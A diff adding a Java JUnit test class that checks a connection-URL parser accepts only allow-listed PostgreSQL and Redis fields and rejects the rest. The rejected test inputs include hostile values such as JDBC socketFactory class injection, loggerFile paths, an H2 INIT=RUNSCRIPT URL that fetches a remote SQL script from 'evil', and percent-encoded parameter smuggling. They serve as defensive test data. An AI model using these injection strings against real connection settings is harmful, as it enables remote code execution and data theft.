@@ -1,0 +1,95 @@
+package io.tidemark.probe.target;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException;
+
+import io.tidemark.metric.Secret;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
+
+/** URLs are rebuilt from checked fields; nothing else gets to a driver, and none is ever shown. */
+class TargetsTests {
+
+    private static final String KEY = "tidemark.targets.shop.url";
+
+    @ParameterizedTest
+    @CsvSource(delimiter = '|', value = {
+            "jdbc:postgresql://db/shop | jdbc:postgresql://db:5432/shop",
+            "jdbc:postgresql://shop_db:6432/shop | jdbc:postgresql://shop_db:6432/shop",
+            "jdbc:postgresql://[::1]:5433/shop | jdbc:postgresql://[::1]:5433/shop",
+            "jdbc:postgresql://10.0.0.7/caf%C3%A9 | jdbc:postgresql://10.0.0.7:5432/caf%C3%A9",
+            "jdbc:postgresql://db/shop?sslrootcert=%2Fetc%2Fca.pem&sslmode=verify-full"
+                    + " | jdbc:postgresql://db:5432/shop?sslmode=verify-full&sslrootcert=%2Fetc%2Fca.pem",
+            "jdbc:postgresql://db/shop? | jdbc:postgresql://db:5432/shop",
+            "jdbc:postgresql://db/shop?prepareThreshold=0 | jdbc:postgresql://db:5432/shop?prepareThreshold=0",
+            "redis://cache | redis://cache:6379/0", "rediss://cache:6380/3 | rediss://cache:6380/3",
+            "redis://[2001:db8::1]/ | redis://[2001:db8::1]:6379/0"})
+    void rebuildsWhatIsAllowed(String written, String rebuilt) {
+        assertThat(parse(written)).hasToString("shop at " + rebuilt);
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"jdbc:postgresql://db/shop?socketFactory=org.springframework.context.support.X",
+            "jdbc:postgresql://db/shop?loggerFile=/var/x&loggerLevel=TRACE",
+            "jdbc:postgresql://db/shop?sslfactory=x.Y", "jdbc:postgresql://db/shop?SSLMODE=disable",
+            "jdbc:postgresql://db/shop?sslmode=disable;socketFactory=x.Y",
+            "jdbc:postgresql://db/shop?sslmode=require%26socketFactory%3Dx.Y",
+            "jdbc:postgresql://db/shop?socket%46actory=x.Y",
+            "jdbc:postgresql://db/shop?&", "jdbc:postgresql://db/shop?options=-c%20x",
+            "jdbc:postgresql://db/shop?sslrootcert=http://evil/ca",
+            "jdbc:postgresql://db/shop?sslmode=require&sslmode=disable",
+            "jdbc:postgresql://db/shop?connectTimeout=0", "jdbc:postgresql://db/shop%3FsocketFactory=x.Y",
+            "jdbc:postgresql://db/shop%3fuser=x", "jdbc:postgresql://db/sh/op", "jdbc:postgresql://db/..%2F..",
+            "jdbc:postgresql://db/", "jdbc:postgresql://db", "jdbc:postgresql:shop", "jdbc:postgresql:///shop",
+            "jdbc:postgresql://db/shop#x", "jdbc:postgresql://db/sho%zz", "jdbc:postgresql://db:0/shop",
+            "jdbc:postgresql://db:99999/shop", "jdbc:postgresql://d b/shop", "jdbc:postgresql://db%2Fx/shop",
+            "jdbc:postgresql://::1/shop", "JDBC:POSTGRESQL://db/shop", "jdbc:postgresql://db\n/shop",
+            "redis://cache?protocol=3", "redis://cache/0/1", "redis://cache/x", "redis:cache", "redis://",
+            "redis://cache/99999"})
+    void refusesWhatIsNotOnTheList(String written) {
+        assertThatIllegalArgumentException().isThrownBy(() -> parse(written)).withMessageStartingWith(KEY + ": ")
+                .withMessageNotContaining("\n");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"jdbc:postgresql://probe:s3cret@db/shop",
+            "jdbc:postgresql://db/shop?user=probe&password=s3cret",
+            "jdbc:postgresql://db/shop?password=s3cret", "redis://:s3cret@cache:6379", "rediss://u:s3cret@cache"})
+    void credentialsBelongIntoTheirKeysAndAreNotRepeated(String written) {
+        assertThatIllegalArgumentException().isThrownBy(() -> parse(written))
+                .withMessageContaining("use the keys username and password").withMessageNotContaining("s3cret");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", "jdbc:h2:file:./data/tidemark",
+            "JDBC:H2:mem:x"})
+    void h2IsNeverATarget(String written) {
+        assertThatIllegalArgumentException().isThrownBy(() -> parse(written))
+                .withMessageStartingWith(KEY + ": H2 is not allowed as a target").withMessageNotContaining("INIT");
+    }
+
+    @ParameterizedTest
+    @CsvSource({"jdbc:mysql://db/shop,'jdbc:mysql'", "http://db,'http'", "memcached://x,'memcached'"})
+    void anUnknownKindIsNamedWithWhatIsAllowed(String written, String kind) {
+        assertThatIllegalArgumentException().isThrownBy(() -> parse(written))
+                .withMessageContaining("kind of target '" + kind.replace("'", "") + "' is unknown")
+                .withMessageContaining("jdbc:postgresql://host[:port]/database");
+    }
+
+    @Test
+    void severalHostsAreRefusedClearly() {
+        assertThatIllegalArgumentException().isThrownBy(() -> parse("jdbc:postgresql://a,b/shop"))
+                .withMessageContaining("names several hosts");
+    }
+
+    @Test
+    void aTargetNeverShowsItsPassword() {
+        assertThat(parse("redis://cache").toString()).doesNotContain("s3cret");
+    }
+
+    private static Target parse(String url) {
+        return Targets.parse(KEY, "shop", url, "probe", new Secret("s3cret"), true);
+    }
+}
